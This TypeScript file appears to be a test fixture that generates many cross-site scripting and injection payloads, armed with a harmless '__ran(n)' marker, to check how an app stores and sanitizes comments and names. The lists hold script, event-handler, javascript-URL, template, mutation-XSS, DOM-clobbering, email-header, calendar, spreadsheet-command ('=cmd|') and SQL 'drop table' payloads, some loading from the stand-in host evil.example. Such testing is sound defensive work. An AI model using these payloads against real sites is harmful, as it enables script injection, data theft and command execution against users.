/** § is replaced by the call that reports a payload, and ¤ by its number. External URLs use evil.example. */
const tags = [
  '<script>§</script>',
  '<SCRIPT >§</SCRIPT\t>',
  '<script src=//evil.example/¤.js></script>',
  '<script/x>§</script>',
  '<script type=module>§</script>',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<!--><script>§</script>-->',
  '<script>§//',
  '<svg><script>§</script></svg>',
  '<template><script>§</script></template>',
  '<iframe src=javascript:§>',
  '<iframe src="data:text/html,<script>parent.§</script>">',
  '<iframe srcdoc="<script>parent.§</script>">',
  '<object data=javascript:§>',
  '<embed src=javascript:§>',
  '<frameset onload=§>',
  '<base href=//evil.example/¤/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/¤">',
  '<link rel=stylesheet href=//evil.example/¤.css>',
  '<portal src=//evil.example/¤>',
]

const handlers = [
  '<img src=x onerror=§>',
  '<img/src=x/onerror=§>',
  '<IMG SRC=x OnErRoR=§>',
  '<svg onload=§>',
  '<svg/onload=§//',
  '<body onload=§>',
  '<details open ontoggle=§>',
  '<video src=x onerror=§>',
  '<video><source onerror=§></video>',
  '<audio src=x onerror=§>',
  '<input autofocus onfocus=§>',
  '<select autofocus onfocus=§>',
  '<textarea autofocus onfocus=§>',
  '<a href=# onclick=§>x ¤</a>',
  '<b onmouseover=§ style=position:fixed;inset:0>x</b>',
  '<marquee onstart=§>',
  '<style onload=§></style>',
  '<svg><animate onbegin=§ attributeName=x>',
  '<p onanimationstart=§ style=animation:x>',
  '<dialog open onclose=§>',
]

const attributes = [
  'x" onerror=§ x="',
  "x' onmouseover=§ x='",
  '" autofocus onfocus=§ x="',
  '` onerror=§ `',
  'x style=x:expression(§) ',
  '<div style="width:expression(§)">',
  '<div style=background:url(//evil.example/¤)>',
  '<style>@import"//evil.example/¤.css";</style>',
  '<style>*{background:url(//evil.example/¤)}</style>',
  '<img src=//evil.example/¤.png>',
  '<img srcset="//evil.example/¤ 2x">',
  '<svg><image href=//evil.example/¤ />',
  '<svg><use href=//evil.example/¤#x />',
  '<input type=image src=//evil.example/¤>',
]

const addresses = [
  '<a href=javascript:§>x ¤</a>',
  'javascript:§',
  'java\tscript:§',
  '[x](javascript:§)',
  '![x](javascript:§)',
  '<a href="jav&#x09;ascript:§">x</a>',
  '<a href=data:text/html,¤>x</a>',
  'data:text/html,<script>parent.§</script>',
  'https://evil.example/¤',
  '<form action=javascript:§><button>x</button></form>',
  '<button formaction=javascript:§>x</button>',
  '<svg><a xlink:href=javascript:§><text y=9>x</text></a></svg>',
  '<math><mi xlink:href=javascript:§>x',
]

const templates = [
  '{{§}}',
  '${§}',
  '#{§}',
  '<%= § %>',
  '{%§%}',
  '[[§]]',
  '`${§}`',
  '{{constructor.constructor("§")()}}',
  '{{$on.constructor("§")()}}',
  '{"$$typeof":"¤","dangerouslySetInnerHTML":{"__html":"§"}}',
]

const closers = [
  '</script><script>§</script>',
  '</textarea><script>§</script>',
  '</title><img src=x onerror=§>',
  '</style><img src=x onerror=§>',
  '</noscript><img src=x onerror=§>',
  '</template><img src=x onerror=§>',
  '</iframe><img src=x onerror=§>',
  '--><img src=x onerror=§>',
  ']]><img src=x onerror=§>',
  '<![CDATA[<img src=x onerror=§>]]>',
  '</p></li></ul></main><img src=x onerror=§>',
]

/** Break out of the state that the server writes into the page. */
const breakouts = [
  '"}];§;//',
  "');§;//",
  '\\");§;//',
  '\\u003cscript\\u003e§\\u003c/script\\u003e',
  '"]);§//',
  '\\",\\"¤</script><!--<script>',
  '\u2028§;//¤',
  'x\u2029§;//¤',
  '<!--<script>§',
  '{"__proto__":{"ran":"¤"}}',
]

const disguises = [
  '&lt;img src=x onerror=§&gt;',
  '&#60;script&#62;§&#60;/script&#62;',
  '&amp;lt;script&amp;gt;§',
  '&#x3c;img src=x onerror=§&#x3e;',
  '&quot; autofocus onfocus=§ x=&quot;',
  '%3Cscript%3E§%3C/script%3E',
  '%00<script>§</script>',
  '\\0<script>§</script>',
  'x\ufeff<script>§</script>',
  '＜script＞§＜/script＞',
  '+ADw-script+AD4-§+ADw-/script+AD4-',
  '😀<img src=x onerror=§>',
  'ſcript <ſcript>§</ſcript>',
]

/** Harmless when parsed once, but not when the result is parsed again. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=§>">',
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<svg><foreignObject><img src=x onerror=§></foreignObject></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>',
  '<table><a href=x><svg><style><img src=x onerror=§>',
  '<svg><desc><![CDATA[</desc><script>§</script>]]>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=§>',
  '<select><style></select><img src=x onerror=§></style>',
]

/** Names that scripts of the page read. */
const clobbering = [
  '<form id=__reactRouterContext><input name=streamController value=¤></form>',
  '<img name=getElementById alt=¤>',
  '<a id=__reactRouterManifest></a><a id=__reactRouterManifest name=routes href=//evil.example/¤></a>',
  '<form name=location><input name=href value=¤></form>',
  '<object id=React data=¤></object>',
]

/** For emails, calendar files and spreadsheets. */
const files = [
  'x%0d%0aBcc:¤@evil.example',
  'x\r\nBcc: ¤@evil.example\r\n\r\n<script>§</script>',
  'x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:¤',
  'x\\nATTACH:https://evil.example/¤',
  'x;VALUE=URI:javascript:§',
  '=HYPERLINK("//evil.example/¤")',
  '=cmd|"/c ¤"!A1',
  "x'; drop table reviews; -- ¤",
]

/** Contains forbidden characters, so it is refused. */
const declined = ['<scr\0ipt>§</script>', '\u202e<script>§</script>']

export const kinds = [
  ...tags,
  ...handlers,
  ...attributes,
  ...addresses,
  ...templates,
  ...closers,
  ...breakouts,
  ...disguises,
  ...mutations,
  ...clobbering,
  ...files,
  ...declined,
]

const prefixes = ['', '">', "'></textarea></title></style></script>"]

export type Payload = {
  n: number
  /** As typed. */
  comment: string
  name: string
}

/** The first set is plain, the others begin with characters that close the surrounding markup. */
export function makePayloads(count: number): Payload[] {
  return Array.from({ length: count }, (_, n) => {
    const kind = kinds[n % kinds.length] ?? ''
    const prefix = prefixes[Math.floor(n / kinds.length) % prefixes.length] ?? ''
    return { n, comment: armed(prefix + kind, n), name: nameOf(n) }
  })
}

const longestName = 80
/** Payloads short enough for a name. One has several lines, which a name refuses. */
const short = kinds.filter(
  (kind) => armed(kind, 1_000).length <= longestName && !/[\t\n]/.test(kind.replace('\r\nBcc', '')),
)

function nameOf(n: number): string {
  // A different payload from the one in the comment.
  const kind = short[(n + 37) % short.length] ?? ''
  const behind = armed(`">${kind}`, n)
  return n < short.length || behind.length > longestName ? armed(kind, n) : behind
}

function armed(kind: string, n: number): string {
  return kind.replaceAll('§', `__ran('${n}')`).replaceAll('¤', `ran${n}ran`)
}

/** As stored: trimmed, with normalized line ends. */
export function asKept(text: string): string {
  return text.replaceAll(/\r\n?/g, '\n').trim()
}
